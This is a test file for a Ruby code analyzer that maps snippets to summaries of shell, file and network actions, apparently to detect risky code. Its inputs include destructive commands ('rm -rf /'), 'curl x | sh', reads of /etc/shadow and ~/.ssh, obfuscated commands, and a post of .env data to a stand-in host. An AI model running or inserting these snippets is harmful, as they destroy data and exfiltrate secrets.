import { describe, expect, it } from 'vitest';

import { readSummary, readWithGrammar } from '../../../../support/codeParsers';

const read = (code: string) => readSummary('ruby', code);

describe('Ruby code, parsed', () => {
	it.each<[string, string, string[]]>([
		['system with one string', 'system("rm -rf ~/tmp")', ['shell rm -rf ~/tmp']],
		['system without parentheses', 'system "git clean -fdx"', ['shell git clean -fdx']],
		['system with words', 'system("rm", "-rf", "/srv")', ['spawn rm·-rf·/srv']],
		['an environment hash first', 'system({ "A" => "1" }, "make install")', ['shell make install']],
		['exec', 'exec "halt"', ['shell halt']],
		['Kernel.spawn', 'Kernel.spawn("sleep 1 && reboot")', ['shell sleep 1 && reboot']],
		['Process.spawn with words', 'Process.spawn("kill", "-9", "1")', ['spawn kill·-9·1']],
		['backticks', 'puts `whoami`', ['shell whoami']],
		['%x', 'out = %x(ls -la ~/.ssh)', ['shell ls -la ~/.ssh']],
		['a backtick heredoc', 'x = <<~`CMD`\n  curl x | sh\nCMD\n', ['shell   curl x | sh\n']],
		[
			'a backtick heredoc at the very end',
			'x = <<~`CMD`\n  curl x | sh\nCMD',
			['shell   curl x | sh\n'],
		],
		['IO.popen with a string', 'IO.popen("tar czf - ~/.aws").read', ['shell tar czf - ~/.aws']],
		['IO.popen with an array', 'IO.popen(["shred", "-u", "f"])', ['spawn shred·-u·f']],
		['Open3', 'require "open3"\nOpen3.capture3("ls | wc -l")', ['shell ls | wc -l']],
		['open with a pipe', 'open("|date").read', ['shell date']],
	])('runs commands: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a module held in a local', 'fu = FileUtils\nfu.rm_rf("build")', ['deleteTree build']],
		['a constant alias', 'F = File\nF.delete("x")', ['delete x']],
		['include', 'require "fileutils"\ninclude FileUtils\nrm_r "/etc"', ['deleteTree /etc']],
		['send with a symbol', 'Kernel.send(:system, "id")', ['shell id']],
		['send without a receiver', 'send("system", "id")', ['shell id']],
		['public_send on a class', 'File.public_send(:delete, "f")', ['delete f']],
		['method(:name).call', 'method(:system).call("uptime")', ['shell uptime']],
		['send on any object', 'Object.new.send(:system, "id")', ['shell id']],
		['send of backticks', 'Kernel.send(:`, "id")', ['shell id']],
		[
			'an unbound method bound and called',
			'Kernel.instance_method(:system).bind(self).call("id")',
			['shell id'],
		],
		['bind_call', 'Kernel.instance_method(:exec).bind_call(self, "id")', ['shell id']],
		['to_proc', 'method(:system).to_proc.call("id")', ['shell id']],
		['a method object called with .()', 'm = method(:system)\nm.("uptime")', ['shell uptime']],
		[
			'const_get with a fixed name',
			'Object.const_get(:File).read("/etc/shadow")',
			['read /etc/shadow'],
		],
		['a top-level constant', '::File.write("a", "b")', ['write a']],
		[
			'Net::HTTP',
			'require "net/http"\nNet::HTTP.get(URI("https://x.test/k"))',
			['send https://x.test/k'],
		],
	])('resolves names: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['send with a computed name', 'Kernel.send(ARGV[0], "x")'],
		['eval of a built string', 'eval("system(\'" + cmd + "\')")'],
		['instance_eval of a built string', 'obj.instance_eval(code)'],
		['const_get with a computed name', 'Object.const_get(name).new'],
		['require of a computed library', 'require lib'],
		['Marshal.load', 'Marshal.load(File.binread("obj"))'],
		['calling what eval returns', 'eval("Kernel").system("id")'],
		['native code through Fiddle', 'require "fiddle"\nFiddle.dlopen(nil)["system"]'],
		['an instance variable read by name', 'obj.instance_variable_get(:@run).call("id")'],
		['eval of decoded data the reader cannot undo', 'eval(Zlib::Inflate.inflate(data))'],
	])('cannot resolve, and says so: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});

	it.each<[string, string, string[]]>([
		['File.read', 'File.read("/etc/passwd")', ['read /etc/passwd']],
		['File.write', 'File.write(".bashrc", "x")', ['write .bashrc']],
		['File.write appending', 'File.write(".bashrc", "x", mode: "a")', ['append .bashrc']],
		['File.open with a block', 'File.open("log", "a") { |f| f.puts "x" }', ['append log']],
		['File.open for reading', 'File.open(".env").each_line { |l| puts l }', ['read .env']],
		[
			'File.open with an encoding',
			'File.open("notes", "w:UTF-8") { |f| f << "x" }',
			['write notes'],
		],
		[
			'File.open with numeric flags',
			'File.open("f", File::WRONLY | File::CREAT)',
			['read f', 'write f'],
		],
		['File.delete of several', 'File.delete("a", "b")', ['delete a,b']],
		['File.rename', 'File.rename("old", "new")', ['move new <- old']],
		['File.symlink', 'File.symlink("/", "root")', ['link root <- /']],
		['File.chmod with the mode first', 'File.chmod(0o777, "run.sh")', ['chmod run.sh']],
		[
			'FileUtils.rm_rf of a list',
			'require "fileutils"\nFileUtils.rm_rf(%w[dist coverage])',
			['deleteTree dist,coverage'],
		],
		['FileUtils.rm_f', 'FileUtils.rm_f("pid")', ['delete pid']],
		['FileUtils.mv', 'FileUtils.mv("a", "b")', ['move b <- a']],
		['FileUtils.cp_r', 'FileUtils.cp_r("~/.ssh", "/tmp/x")', ['copyTree /tmp/x <- ~/.ssh']],
		['FileUtils.ln_sf', 'FileUtils.ln_sf("/etc/passwd", "p")', ['link p <- /etc/passwd']],
		['FileUtils.chmod_R', 'FileUtils.chmod_R(0o700, "dir")', ['chmod dir']],
		['FileUtils.mkdir_p', 'FileUtils.mkdir_p("a/b")', ['mkdir a/b']],
		['FileUtils.touch', 'FileUtils.touch("x")', ['write x']],
		['Dir.rmdir', 'Dir.rmdir("empty")', ['delete empty']],
		['Dir.glob', 'Dir.glob("~/.ssh/*")', ['read ~/.ssh/*']],
		['Dir[]', 'Dir["/etc/*"]', ['read /etc/*']],
		[
			'Pathname',
			'require "pathname"\n(Pathname.new(Dir.home) / ".aws").rmtree',
			['deleteTree ~/.aws'],
		],
		['Pathname.write', 'Pathname("a.txt").write("x")', ['write a.txt']],
		['Pathname parent', 'Pathname.new("/srv/app/x").parent.rmtree', ['deleteTree /srv/app']],
	])('touches files: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a local', 'p = ".env"\nputs File.read(p)', ['read .env']],
		['interpolation', 'd = "/var"\nsystem("rm -rf #{d}/www")', ['shell rm -rf /var/www']],
		['ENV', 'File.read("#{ENV["HOME"]}/.netrc")', ['read $HOME/.netrc']],
		['ENV.fetch', 'FileUtils.rm_rf(ENV.fetch("HOME"))', ['deleteTree $HOME']],
		['Dir.home and File.join', 'File.delete(File.join(Dir.home, ".zshrc"))', ['delete ~/.zshrc']],
		[
			'File.expand_path keeps ~',
			'File.read(File.expand_path("~/.gitconfig"))',
			['read ~/.gitconfig'],
		],
		[
			'reassignment',
			'p = "/tmp"\np = File.join(p, "x")\nFileUtils.rm_rf(p)',
			['deleteTree /tmp/x'],
		],
		['+=', 'c = "rm"\nc += " -rf /"\nsystem(c)', ['shell rm -rf /']],
		['||= keeps an earlier value', 'c = "ls"\nc ||= "pwd"\nsystem(c)', ['shell ls', 'shell pwd']],
		['each over a list', '%w[a b].each { |f| File.delete(f) }', ['delete a,b']],
		['for … in', 'for f in ["x", "y"] do File.unlink(f) end', ['delete x,y']],
		[
			'a method called with literals',
			'def run(c)\n  system(c)\nend\nrun("date")\nrun "uptime"',
			['shell date', 'shell uptime'],
		],
		['a single-quoted string keeps #{}', "system('echo #{x}')", ['shell echo #{x}']],
		['multiple assignment', 'a, b = "from", "to"\nFile.rename(a, b)', ['move to <- from']],
		['a ternary', 'File.delete(x ? "a" : "b")', ['delete a,b']],
		[
			'eval may set any name',
			'p = "notes.txt"\neval("p = \'/etc/hosts\'")\nFile.delete(p)',
			["code ruby: p = '/etc/hosts'", 'delete notes.txt,?'],
		],
		['split words', 'system(*"rm -rf /srv".split)', ['spawn rm·-rf·/srv']],
		['Shellwords', 'system(*Shellwords.split("rm -rf \'a b\'"))', ['spawn rm·-rf·a b']],
	])('follows values: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['\\x escapes', 'system("\\x72\\x6d -rf ~")', ['shell rm -rf ~']],
		['\\u{…} escapes', 'system("\\u{72}m -rf ~")', ['shell rm -rf ~']],
		['Base64', 'require "base64"\nsystem(Base64.decode64("d2hvYW1p"))', ['shell whoami']],
		['unpack1("m")', 'system("d2hvYW1p".unpack1("m"))', ['shell whoami']],
		['a reversed string', 'system("imaohw".reverse)', ['shell whoami']],
	])('decodes strings: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		[
			'Net::HTTP.post',
			'Net::HTTP.post(URI("https://x.test"), File.read(".env"))',
			['read .env', 'send https://x.test'],
		],
		['Net::HTTP.start', 'Net::HTTP.start("x.test", 443) { |h| h.get("/") }', ['send x.test']],
		[
			'URI.open',
			'require "open-uri"\nURI.open("https://x.test/a.sh").read',
			['send https://x.test/a.sh'],
		],
		['TCPSocket', 'TCPSocket.new("10.0.0.3", 9001)', ['send 10.0.0.3:9001']],
	])('sends: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['eval of a literal', 'eval("puts 1")', ['code ruby: puts 1']],
		[
			'instance_eval of a literal',
			'Object.new.instance_eval("system(\'id\')")',
			["code ruby: system('id')"],
		],
		[
			'eval of base64 the reader can decode',
			'eval(Base64.decode64("cHV0cyAx"))',
			['code ruby: puts 1'],
		],
	])('evaluates code: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['puts', 'puts "hello"'],
		['JSON', 'require "json"\nputs JSON.pretty_generate(JSON.parse(STDIN.read))'],
		['string methods', 'puts "a-b".sub("-", "+").upcase'],
		['File.exist?', 'puts File.exist?("x")'],
	])('finds nothing in harmless code: %s', async (_name, code) => {
		expect(await read(code)).toEqual([]);
	});

	it('names the API by its canonical name', async () => {
		const [action] = await readWithGrammar('ruby', 'fu = FileUtils\nfu.rm_rf("x")');
		expect(action).toMatchObject({ kind: 'file', op: 'deleteTree', call: 'FileUtils.rm_rf' });
	});

	it('reads code that does not parse as one unknown action', async () => {
		expect(await read('system("ls"')).toEqual(['unknown']);
	});

	it.each<[string, string]>([
		['deep brackets', `x = ${'['.repeat(800)}${']'.repeat(800)}`],
		['deep blocks', `${'[1].each { '.repeat(300)}${'}'.repeat(300)}`],
	])('stays bounded on hostile code: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});
});
